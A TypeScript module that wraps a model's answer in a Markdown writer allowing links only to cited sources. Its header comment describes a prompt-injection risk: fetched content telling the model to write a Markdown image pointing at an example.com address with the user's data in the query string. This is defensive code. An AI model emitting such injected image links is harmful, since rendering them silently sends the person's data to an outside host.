/**
 * What a model wrote, turned into Markdown that is safe in any renderer. What was fetched may have told the model to write
 * `![](https://example.com/?d=…)`, and a renderer that shows it has sent the person's data away, unasked.
 *
 * So the answer links to its sources and to nothing else, and all of it is written again.
 */
import type { Source } from '../../../../../shared/model.ts';
import { createAddresses } from '../../../ground/markdown/addresses.ts';
import { createMarkdownWriter, type MarkdownWriter } from '../../../ground/markdown/writer.ts';
import { type Citations, createCitations } from '../citations.ts';

type Options = {
  sources: readonly Source[];
  /** Is told of every source that the answer links to. */
  citations?: Citations;
};

/** The text of one answer. All it gives out, joined, is the same however the model's text is split into chunks. */
export const createAnswerText = ({ sources, citations = createCitations() }: Options): MarkdownWriter =>
  createMarkdownWriter(createAddresses(sources), ({ source }) => (source ? citations.cite(source) : 0));
